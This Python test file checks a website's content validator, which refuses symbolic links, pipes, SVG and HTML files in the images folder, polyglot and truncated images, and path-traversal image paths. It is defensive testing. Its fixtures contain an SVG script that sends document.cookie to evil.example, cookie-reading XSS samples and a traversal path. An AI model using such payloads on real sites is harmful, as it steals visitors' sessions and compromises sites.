"""What ``invoke check`` accepts in ``content/`` as files: no links, no strays, real images.

A pull request is untrusted: a symbolic link would publish its target (the signing key), an
``.html`` or ``.svg`` in ``images/`` would run as the site, a broken image would crash the
build. Each case names the file, the line and the field a reporter reads.
"""

from __future__ import annotations

import io
import os
from pathlib import Path

import pytest
from PIL import Image

from p2f_model.check import run
from p2f_model.load import load_corpus
from tests.conftest import PLACE, PLACE_EN, PNG, WriteContent

SECRET = b"-----BEGIN PRIVATE KEY----- kiosk signing key 5f3c9a -----END PRIVATE KEY-----\n"
SVG_WITH_SCRIPT = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    "<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>"
)


def problems_of(content: Path) -> list[str]:
    return [str(p) for p in sorted(load_corpus(content).problems)]


def raster(format_name: str, size: tuple[int, int] = (12, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (42, 111, 151)).save(out, format_name)
    return out.getvalue()


def secret_outside(tmp_path: Path) -> Path:
    """A private key outside the content folder (and outside the repository)."""
    outside = tmp_path / "outside"
    outside.mkdir(exist_ok=True)
    secret = outside / "secret.key"
    secret.write_bytes(SECRET)
    return secret


def test_symlinked_file_in_images_is_refused(
    write_content: WriteContent, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    content = write_content()
    (content / "images" / "credits.txt").symlink_to(secret_outside(tmp_path))
    assert run(content) == 1
    out = capsys.readouterr().out
    assert "content/images/credits.txt:1: file: is a symbolic link" in out
    assert "replace it with the real file" in out
    assert SECRET.decode().strip() not in out


def test_symlinked_image_with_an_image_name_is_refused(
    write_content: WriteContent, tmp_path: Path
) -> None:
    """A link named like the image an item shows: refused, and the item says why."""
    content = write_content()
    (content / "images" / "veto.png").unlink()
    (content / "images" / "veto.png").symlink_to(secret_outside(tmp_path))
    problems = problems_of(content)
    assert "content/images/veto.png:1: file: is a symbolic link" in "\n".join(problems)
    assert any(
        p.startswith('content/lieux/veto-pinede.md:11: images[0].src: "images/veto.png" does not')
        for p in problems
    ), problems


def test_symlinked_markdown_pointing_outside_is_refused(
    write_content: WriteContent, tmp_path: Path
) -> None:
    content = write_content()
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "notes.md").write_text(PLACE_EN, encoding="utf-8")
    (content / "lieux" / "veto-pinede.de.md").symlink_to(outside / "notes.md")
    problems = problems_of(content)
    assert problems == [
        "content/lieux/veto-pinede.de.md:1: file: is a symbolic link, which could publish "
        "a file from outside the content (a key, a password); replace it with the real file"
    ]
    corpus = load_corpus(content)
    assert "de" not in corpus.items["veto-pinede"].texts


def test_symlinked_folder_is_refused_and_not_entered(
    write_content: WriteContent, tmp_path: Path
) -> None:
    content = write_content()
    secret_outside(tmp_path)
    (content / "images" / "extra").symlink_to(tmp_path / "outside", target_is_directory=True)
    problems = problems_of(content)
    assert problems == [
        "content/images/extra:1: file: is a symbolic link, which could publish "
        "a file from outside the content (a key, a password); replace it with the real file"
    ]


def test_content_folder_that_is_a_symlink_is_refused(
    write_content: WriteContent, tmp_path: Path
) -> None:
    real = write_content()
    link = tmp_path / "linked"
    link.symlink_to(real, target_is_directory=True)
    assert [p.field for p in load_corpus(link).problems] == ["file"]


def test_fifo_does_not_hang_the_check(write_content: WriteContent) -> None:
    content = write_content()
    os.mkfifo(content / "lieux" / "pipe.md")
    assert problems_of(content) == [
        "content/lieux/pipe.md:1: file: is not a regular file (a device, pipe or socket)"
    ]


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        pytest.param(
            "images/page.html",
            b"<script>alert(document.cookie)</script>",
            "content/images/page.html:1: file: only JPEG, PNG, WebP and AVIF images",
            id="html-in-images",
        ),
        pytest.param(
            "images/logo.svg",
            SVG_WITH_SCRIPT.encode(),
            "content/images/logo.svg:1: file: SVG images are not accepted (a drawing can carry "
            "scripts that would run on livep2f.com); convert it to PNG or WebP",
            id="svg-with-script",
        ),
        pytest.param(
            "lieux/page.html",
            b"<html><script>alert(1)</script></html>",
            "content/lieux/page.html:1: file: is not a content file",
            id="html-in-kind-folder",
        ),
        pytest.param(
            "notes.txt",
            b"hello",
            "content/notes.txt:1: file: is not a content file",
            id="stray-file-at-top",
        ),
        pytest.param(
            "images/.DS_Store",
            b"\x00\x00\x00\x01Bud1",
            "content/images/.DS_Store:1: file: only JPEG, PNG, WebP and AVIF images",
            id="hidden-file",
        ),
        pytest.param(
            "images/photo.jpg",
            b"Just some text renamed to .jpg\n",
            "content/images/photo.jpg:1: file: is not a JPEG, PNG, WebP or AVIF image",
            id="text-named-jpg",
        ),
        pytest.param(
            "images/cut.png",
            PNG[:50],
            "content/images/cut.png:1: file: cannot be read as an image",
            id="truncated-png",
        ),
        pytest.param(
            "images/drawing.jpg",
            PNG,
            "content/images/drawing.jpg:1: file: is a PNG image named like a JPEG; "
            "rename it with .png",
            id="png-named-jpg",
        ),
        pytest.param(
            "images/polyglot.png",
            b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
            "content/images/polyglot.png:1: file: cannot be read as an image",
            id="png-magic-then-html",
        ),
    ],
)
def test_only_content_files_and_raster_images_are_accepted(
    write_content: WriteContent, name: str, data: bytes, expected: str
) -> None:
    content = write_content()
    (content / name).parent.mkdir(parents=True, exist_ok=True)
    (content / name).write_bytes(data)
    problems = problems_of(content)
    assert len(problems) == 1 and problems[0].startswith(expected), problems


def test_raster_formats_are_accepted(write_content: WriteContent) -> None:
    content = write_content()
    for name, format_name in [
        ("a.jpg", "JPEG"),
        ("b.jpeg", "JPEG"),
        ("c.webp", "WEBP"),
        ("d.avif", "AVIF"),
        ("sub/e.png", "PNG"),
    ]:
        (content / "images" / name).parent.mkdir(exist_ok=True)
        (content / "images" / name).write_bytes(raster(format_name))
    assert problems_of(content) == []


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        pytest.param("logo.svg", SVG_WITH_SCRIPT.encode(), "SVG images are not accepted", id="svg"),
        pytest.param("photo.jpg", b"not an image at all", "is not a JPEG, PNG", id="text-as-jpg"),
        pytest.param("cut.png", PNG[:40], "cannot be read as an image", id="truncated-png"),
    ],
)
def test_unusable_image_shown_by_an_item_fails_the_check_at_its_field(
    write_content: WriteContent, name: str, data: bytes, reason: str
) -> None:
    content = write_content({"lieux/veto-pinede.md": PLACE.replace("veto.png", name)})
    (content / "images" / name).write_bytes(data)
    problems = "\n".join(problems_of(content))
    assert f"content/images/{name}:1: file: " in problems
    # the item that shows it points at its own line and field, with the reason
    assert f'content/lieux/veto-pinede.md:11: images[0].src: "images/{name}"' in problems
    assert reason in problems


def test_an_svg_src_is_refused_even_without_the_file(write_content: WriteContent) -> None:
    content = write_content({"lieux/veto-pinede.md": PLACE.replace("veto.png", "logo.svg")})
    assert problems_of(content) == [
        'content/lieux/veto-pinede.md:11: images[0].src: "images/logo.svg": SVG images are not '
        "accepted (a drawing can carry scripts that would run on livep2f.com); "
        "convert it to PNG or WebP"
    ]


@pytest.mark.parametrize(
    "src", ["images/../../keys/kiosk.png", "images/.hidden.png", "images//x.png", "img/x.png"]
)
def test_image_src_stays_a_plain_path_under_images(write_content: WriteContent, src: str) -> None:
    content = write_content({"lieux/veto-pinede.md": PLACE.replace("images/veto.png", src)})
    assert problems_of(content) == [
        f'content/lieux/veto-pinede.md:11: images[0].src: "{src}" is not an image of '
        "content/images/ (expected images/<file>.jpg, .jpeg, .png, .webp or .avif)"
    ]


def test_sample_content_passes(capsys: pytest.CaptureFixture[str]) -> None:
    from tests.conftest import ROOT

    assert run(ROOT / "content") == 0
    assert capsys.readouterr().out.startswith("check: ok")


def test_a_cut_image_is_refused_even_after_weasyprint_was_imported() -> None:
    """WeasyPrint (office reports) turns Pillow's LOAD_TRUNCATED_IMAGES on at import; the check
    must not start accepting cut images in a process that made a PDF first."""
    from PIL import ImageFile

    from p2f_model.images import image_problem

    before = ImageFile.LOAD_TRUNCATED_IMAGES
    ImageFile.LOAD_TRUNCATED_IMAGES = True  # what `import weasyprint` does
    try:
        problem = image_problem("images/cut.png", PNG[:40])
        assert problem is not None and "cannot be read as an image" in problem
        assert ImageFile.LOAD_TRUNCATED_IMAGES is True  # the caller's setting is left alone
    finally:
        ImageFile.LOAD_TRUNCATED_IMAGES = before
